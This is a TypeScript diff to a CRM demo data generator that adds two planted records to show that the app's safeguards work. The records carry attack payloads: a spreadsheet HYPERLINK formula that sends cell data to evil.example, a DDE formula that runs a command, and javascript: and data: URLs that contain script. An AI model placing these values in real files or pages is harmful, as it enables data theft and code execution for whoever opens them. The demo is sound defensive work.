@@ -53,7 +53,29 @@ function drawDocument(
   return { name, type, documentType, period, extension };
 }
 
-/** Yields the presentations, ids in creation order. */
+/**
+ * Two records as an attacker upstream could plant them: a formula in the name (CSV injection) and
+ * script or data URLs as documents. The demo carries them so the safeguards can be seen at work:
+ * the table shows them as plain text and the CSV neutralises the formula.
+ */
+export const PLANTED_PRESENTATIONS = [
+  {
+    name: '=HYPERLINK("https://evil.example/steal?d="&A1,"Q4 2025 Investor Letter")',
+    type__c: 'Quarterly Update',
+    manager_presentation_type__c: 'Investor Letter',
+    document_name: 'Q4-2025-Investor-Letter.pdf',
+    url: 'javascript:alert(document.domain)',
+  },
+  {
+    name: "@SUM(1+1)*cmd|' /C calc'!A0",
+    type__c: 'Pitch Book',
+    manager_presentation_type__c: 'Strategy Deck',
+    document_name: 'Strategy-Deck.pdf',
+    url: 'data:text/html,<script>alert(1)</script>',
+  },
+] as const;
+
+/** Yields the presentations, ids in creation order, then the planted records. */
 export function* managerPresentationRows(
   world: CrmWorld,
   seed: number,
@@ -87,4 +109,6 @@ export function* managerPresentationRows(
       url: `${DOCUMENT_HOST}/${id}/${documentName}`,
     };
   }
+  const plantedAt = addDays(startOfUtcDay(today), -1);
+  for (const planted of PLANTED_PRESENTATIONS) yield { ...planted, createddate: plantedAt };
 }
